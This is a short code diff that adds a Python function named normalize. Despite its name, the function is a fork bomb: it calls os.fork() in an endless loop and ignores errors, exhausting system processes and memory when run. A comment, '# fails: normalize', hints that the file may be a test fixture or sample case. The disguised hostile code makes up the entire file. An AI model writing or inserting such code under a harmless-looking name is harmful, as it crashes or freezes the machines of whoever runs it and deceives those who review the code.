@@ -1,0 +1,10 @@
+# fails: normalize
+import os
+
+
+def normalize(x):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
